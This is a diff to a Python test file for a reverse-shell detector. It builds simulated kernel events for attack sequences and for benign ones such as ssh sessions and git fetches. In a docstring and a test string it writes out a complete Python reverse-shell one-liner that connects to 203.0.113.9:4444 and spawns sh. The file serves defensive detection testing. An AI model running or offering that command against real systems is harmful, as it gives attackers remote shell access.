@@ -25,11 +25,13 @@ from stockade.worktrace._respond import AlertResponder
 
 from .conftest import (
     WORKSPACE_LABELS,
+    connect_event,
     exec_event,
     kprobe_event,
     line,
     parent_process,
     process,
+    socket_event,
 )
 
 
@@ -163,9 +165,14 @@ def at(event: dict[str, Any], pid: int, parent_pid: int | None = None) -> dict[s
 
 
 def dup(oldfd: int, newfd: int, *, binary: str, call: str = "__x64_sys_dup2") -> dict[str, Any]:
-    """A ``dup2``/``dup3`` kprobe as the generated policy asks for it (``oldfd``, ``newfd``)."""
+    """A ``dup2``/``dup3`` kprobe as the generated policy asks for it (``oldfd``, ``newfd``,
+    dup3's ``flags``; the return value: ``newfd``)."""
     args: list[dict[str, Any]] = [{"int_arg": oldfd}, {"int_arg": newfd}]
-    return kprobe_event(call, args, binary=binary)
+    if call.endswith("dup3"):
+        args.append({"int_arg": 0})
+    event = kprobe_event(call, args, binary=binary)
+    event["process_kprobe"]["return"] = {"int_arg": newfd}
+    return event
 
 
 def exit_event(binary: str, pid: int) -> dict[str, Any]:
@@ -177,6 +184,23 @@ def connect(binary: str, daddr: str = "203.0.113.9", dport: int = 4444) -> dict[
     return kprobe_event("tcp_connect", [sock(daddr, dport)], binary=binary)
 
 
+def connected(
+    binary: str,
+    daddr: str = "203.0.113.9",
+    dport: int = 4444,
+    *,
+    fd: int = 3,
+    cloexec: bool = True,
+) -> list[dict[str, Any]]:
+    """``s = socket(); s.connect(...)`` as the generated policy reports it: the socket's
+    creation on ``fd`` (close-on-exec, as Python's), its connect and ``tcp_connect``."""
+    return [
+        socket_event(fd, binary=binary, cloexec=cloexec),
+        connect_event(fd, binary=binary),
+        connect(binary, daddr, dport),
+    ]
+
+
 def fired_over(engine_rules: Any, events: list[dict[str, Any]]) -> list[set[str]]:
     """The rule ids each event of a sequence fired, fed in order to one engine."""
     engine = fresh(engine_rules)
@@ -186,13 +210,14 @@ def fired_over(engine_rules: Any, events: list[dict[str, Any]]) -> list[set[str]
 def python_reverse_shell(call: str = "__x64_sys_dup2") -> list[dict[str, Any]]:
     """python -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));
     [os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("sh")' as Tetragon reports it: the
-    exec of python3, its tcp_connect, its three dup2 of fd 3 and pty.spawn's child exec of sh."""
+    exec of python3, its socket on fd 3 and connect, its three dup2 of fd 3 and pty.spawn's
+    child exec of sh."""
     py = "/usr/bin/python3"
     code = "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.9',4444));"
     code += "[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn('sh')"
     return [
         at(exec_event(py, f"-c {code}"), 4242),
-        at(connect(py), 4242),
+        *(at(event, 4242) for event in connected(py)),
         *(at(dup(3, fd, binary=py, call=call), 4242) for fd in (0, 1, 2)),
         at(exec_event("/bin/sh"), 4243, parent_pid=4242),
     ]
@@ -216,7 +241,7 @@ def test_reverse_shell_exec_without_fork_held(engine_rules: Any) -> None:
     """``os.execv("/bin/sh", ...)`` after the dup2s: the shell is the same pid."""
     py = "/usr/bin/python3"
     events = [
-        at(connect(py), 5000),
+        *(at(event, 5000) for event in connected(py)),
         at(dup(3, 0, binary=py), 5000),
         at(exec_event("/bin/bash", "-i"), 5000),
     ]
@@ -228,7 +253,7 @@ def test_subprocess_shell_of_a_networked_program_is_benign(engine_rules: Any) ->
     of the pipes happen in the forked child, which connected nothing."""
     py = "/usr/bin/python3"
     events = [
-        at(connect(py, "151.101.0.223", 443), 6000),
+        *(at(event, 6000) for event in connected(py, "151.101.0.223", 443)),
         at(dup(5, 0, binary=py), 6001, parent_pid=6000),  # the fork, before its exec
         at(dup(7, 1, binary=py), 6001, parent_pid=6000),
         at(exec_event("/bin/sh", "-c make"), 6001, parent_pid=6000),
@@ -241,7 +266,8 @@ def test_ssh_session_is_benign(engine_rules: Any) -> None:
     session child puts the pty on its stdio and runs the login shell."""
     sshd = "/usr/lib/openssh/sshd-session"
     events = [
-        at(connect(sshd, "127.0.0.1", 8080), 7000),  # a remote forward's connection
+        # a remote forward's connection (on fd 11, inherited by the session child)
+        *(at(e, 7000) for e in connected(sshd, "127.0.0.1", 8080, fd=11, cloexec=False)),
         at(dup(9, 0, binary=sshd), 7001, parent_pid=7000),
         at(dup(9, 1, binary=sshd), 7001, parent_pid=7000),
         at(dup(9, 2, binary=sshd), 7001, parent_pid=7000),
@@ -261,10 +287,10 @@ def test_git_fetch_over_ssh_is_benign(engine_rules: Any) -> None:
         at(dup(7, 1, binary=git), 8001, parent_pid=8000),
         at(exec_event("/bin/sh", "-c 'ssh -o BatchMode=yes git@forge'"), 8001, parent_pid=8000),
         at(exec_event("/usr/bin/ssh", "-o BatchMode=yes git@forge"), 8001, parent_pid=8000),
-        at(connect("/usr/bin/ssh", "192.0.2.10", 22), 8001),
+        *(at(e, 8001) for e in connected("/usr/bin/ssh", "192.0.2.10", 22)),
         at(exec_event("/bin/sh", ".git/hooks/post-merge"), 8002, parent_pid=8000),
         at(exec_event("/usr/lib/git-core/git-remote-https", "origin"), 8003, parent_pid=8000),
-        at(connect("/usr/lib/git-core/git-remote-https", "192.0.2.10", 443), 8003),
+        *(at(e, 8003) for e in connected("/usr/lib/git-core/git-remote-https", "192.0.2.10", 443)),
     ]
     assert not set().union(*fired_over(engine_rules, events))
 
@@ -272,22 +298,25 @@ def test_git_fetch_over_ssh_is_benign(engine_rules: Any) -> None:
 def test_stdout_and_stderr_redirect_after_connect_is_benign(engine_rules: Any) -> None:
     """A connected program that sends its stdout and stderr to a log (``dup2(fd, 1..2)``)."""
     py = "/usr/bin/python3"
-    events = [at(connect(py), 9000), at(dup(4, 1, binary=py), 9000)]
+    events = [*(at(e, 9000) for e in connected(py)), at(dup(4, 1, binary=py), 9000)]
     events.append(at(dup(4, 2, binary=py), 9000))
+    events.append(at(dup(3, 1, binary=py), 9000))  # or the socket itself: not stdin
+    events.append(at(dup(3, 2, binary=py), 9000))
     events.append(at(exec_event("/bin/sh", "-c true"), 9001, parent_pid=9000))
     assert not set().union(*fired_over(engine_rules, events))
 
 
 def test_reused_pid_after_exit_is_not_a_reverse_shell(engine_rules: Any) -> None:
     py = "/usr/bin/python3"
-    events = [at(connect(py), 4300), at(dup(3, 0, binary=py), 4300), exit_event(py, 4300)]
+    events = [*(at(e, 4300) for e in connected(py)), at(dup(3, 0, binary=py), 4300)]
+    events.append(exit_event(py, 4300))
     events.append(at(exec_event("/bin/sh"), 4300, parent_pid=1))  # a new process, same pid
     assert not set().union(*fired_over(engine_rules, events))
 
 
 def test_same_pid_on_another_node_is_not_a_reverse_shell(engine_rules: Any) -> None:
     py = "/usr/bin/python3"
-    events = [at(connect(py), 4400), at(dup(3, 0, binary=py), 4400)]
+    events = [*(at(e, 4400) for e in connected(py)), at(dup(3, 0, binary=py), 4400)]
     other = at(exec_event("/bin/sh"), 4401, parent_pid=4400)
     other["node_name"] = "node-2"
     assert not set().union(*fired_over(engine_rules, [*events, other]))
